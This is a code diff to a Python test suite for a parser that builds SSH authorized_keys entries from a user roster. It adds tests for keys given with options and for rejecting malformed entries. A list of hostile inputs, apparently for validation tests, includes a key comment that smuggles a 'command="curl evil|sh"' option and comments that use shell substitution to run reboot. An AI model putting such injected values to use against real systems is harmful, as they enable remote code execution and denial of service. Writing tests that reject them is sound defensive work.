@@ -58,6 +58,16 @@ def test_a_full_entry_is_read() -> None:
     assert (entry.expires, entry.adopt) == ("2027-01-31", True)
 
 
+def test_a_key_may_be_a_mapping_with_options() -> None:
+    entry = {"key": ed25519(2), "restrict": True, "pty": True, "expires": datetime.date(2027, 1, 31)}
+    [alice] = parse_roster([{"username": "alice", "keys": [ed25519(1), entry, entry]}]).entries
+    assert alice.keys is not None
+    assert [held.line for held in alice.keys] == [
+        ed25519(1),
+        f'restrict,pty,expiry-time="20270131000000Z" {ed25519(2)}',
+    ]
+
+
 def test_what_is_not_said_stays_unsaid() -> None:
     for raw in ({"username": "alice"}, {"username": "alice", "keys": None, "groups": None, "subject": None}):
         [entry] = parse_roster([raw]).entries
@@ -156,6 +166,10 @@ HOSTILE: list[tuple[Any, str]] = [
     ({"username": "mallory", "keys": [ed25519(9, '"; command="curl evil|sh')]}, "comment"),
     ({"username": "mallory", "keys": [ed25519(9, "$(reboot)")]}, "comment"),
     ({"username": "mallory", "keys": [ed25519(9, "`reboot`")]}, "comment"),
+    ({"username": "mallory", "keys": [{"command": "id"}]}, "has no key"),
+    ({"username": "mallory", "keys": [{"key": ed25519(9), "command": 'a"b'}]}, "has a quote or a backslash"),
+    ({"username": "mallory", "keys": [{"key": ed25519(9), "environment": "A=1"}]}, "unknown option 'environment'"),
+    ({"username": "mallory", "keys": [ed25519(9), {"key": ed25519(9), "pty": False}]}, "with different options"),
     ({"username": "mallory", "keys": ["-----BEGIN OPENSSH PRIVATE KEY-----"]}, "private key"),
 ]  # fmt: skip
 
@@ -190,6 +204,11 @@ def test_all_bad_entries_are_named_in_one_message() -> None:
         (
             {"username": "alice", "keys": [ed25519(1, "alice")]},
             {"username": "bob", "keys": [ed25519(2), ed25519(1, "bob")]},
+            "entry 1 has the same SSH key",
+        ),
+        (
+            {"username": "alice", "keys": [ed25519(1, "alice")]},
+            {"username": "bob", "keys": [{"key": ed25519(1, "bob"), "restrict": True}]},
             "entry 1 has the same SSH key",
         ),
         ({"username": "alice", "home": "/home/x"}, {"username": "bob", "home": "/home/x"}, "entry 1 has the same home"),
